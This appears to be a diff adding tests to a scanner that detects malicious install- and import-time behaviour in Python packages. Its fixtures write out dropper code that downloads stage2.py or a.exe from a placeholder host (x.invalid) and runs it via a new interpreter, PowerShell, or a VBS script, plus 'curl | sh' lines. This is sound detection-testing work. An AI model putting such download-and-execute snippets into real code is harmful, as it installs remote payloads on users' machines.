@@ -319,3 +319,60 @@ def test_a_shell_command_that_puts_who_runs_it_into_an_address_is_a_beacon() -> 
         source = f"import os\nos.system({command!r})\n"
         found = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
         assert not [f for f in found if "who runs it" in f.message], command
+
+
+def test_downloaded_source_handed_to_a_new_interpreter_is_executed_code() -> None:
+    source = (
+        "import subprocess, sys, urllib.request\n"
+        "code = urllib.request.urlopen('https://x.invalid/stage2.py').read().decode()\n"
+        "subprocess.Popen([sys.executable, '-c', code])\n"
+    )
+    found = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
+    assert [(f.rule, f.severity) for f in found if f.rule == "PV-DL-001"] == [
+        ("PV-DL-001", Severity.CRITICAL)
+    ]
+    literal = (
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.path)'])\n"
+    )
+    assert "PV-DL-001" not in ids(run(RULES, py(literal, path="setup.py", stage=Stage.INSTALL)))
+    fetched_data = (
+        "import subprocess, sys, urllib.request\n"
+        "name = urllib.request.urlopen('https://x.invalid/latest').read().decode()\n"
+        "subprocess.run([sys.executable, '-m', 'pip', 'show', name])\n"
+    )
+    assert "PV-DL-001" not in ids(run(RULES, py(fetched_data, path="setup.py", stage=Stage.INSTALL)))
+
+
+def test_a_dropper_script_written_to_a_file_and_started_is_a_shell_dropper() -> None:
+    bat = (
+        "import os, tempfile\n"
+        "p = os.path.join(tempfile.gettempdir(), 'r.bat')\n"
+        "open(p, 'w').write('powershell -c \"iwr http://x.invalid/a.exe -OutFile a.exe; ./a.exe\"')\n"
+        "os.startfile(p)\n"
+    )
+    found = run(RULES, py(bat, path="acme/__init__.py", stage=Stage.IMPORT))
+    assert [(f.rule, f.severity) for f in found] == [("PV-DL-003", Severity.CRITICAL)]
+    assert "writes a script" in found[0].message
+    vbs = (
+        "import subprocess\n"
+        "def go(p):\n"
+        "    with open(p, 'w') as f:\n"
+        "        f.write('CreateObject(\"WScript.Shell\").Run '\n"
+        "                '\"cmd /c curl http://x.invalid/a.exe -o a.exe & a.exe\"')\n"
+        "    subprocess.call(['wscript', p])\n"
+    )
+    assert [f.severity for f in run(RULES, py(vbs, path="acme/tool.py", stage=Stage.RUNTIME))] == [
+        Severity.HIGH
+    ]
+
+
+def test_a_dockerfile_or_a_script_nothing_runs_is_no_dropper() -> None:
+    dockerfile = (
+        "import subprocess\n"
+        "open('Dockerfile', 'w').write('FROM python:3.12\\n'\n"
+        "    'RUN curl -sSL https://x.invalid/install.sh | sh\\n')\n"
+        "subprocess.run(['docker', 'build', '.'])\n"
+    )
+    assert "PV-DL-003" not in ids(run(RULES, py(dockerfile, path="acme/__init__.py")))
+    unrun = "open('install.sh', 'w').write('curl -sSL https://x.invalid/install.sh | sh')\n"
+    assert "PV-DL-003" not in ids(run(RULES, py(unrun, path="acme/__init__.py")))
